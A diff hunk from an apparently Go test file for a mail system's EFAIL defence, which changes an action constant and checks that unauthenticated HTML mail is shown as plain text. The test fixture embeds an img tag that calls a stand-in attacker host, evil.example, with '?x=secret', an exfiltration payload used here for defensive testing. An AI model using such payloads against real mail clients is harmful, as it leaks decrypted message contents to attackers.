@@ -170,7 +170,7 @@ func TestOrderFromOutsideInOurName(t *testing.T) {
 // TestUnauthenticatedAsText: HTML of a mail that could have been changed on the
 // way is shown as text (EFAIL).
 func TestUnauthenticatedAsText(t *testing.T) {
-	h := newHouse(t, func(o *Options) { o.On = Actions{"unauthenticated": Text} })
+	h := newHouse(t, func(o *Options) { o.On = Actions{"unauthenticated": TextMail} })
 	html := "Content-Type: text/html\r\n\r\n<b>hello</b><img src=\"http://evil.example/?x=secret\">\r\n"
 	out := h.process(inboundTo("support@firma.example"), h.sealed(fromAnna, html, h.support))
 	if strings.Contains(out.text[0], "<img") || strings.Contains(out.text[0], "text/html") || !strings.Contains(out.text[0], "hello") {
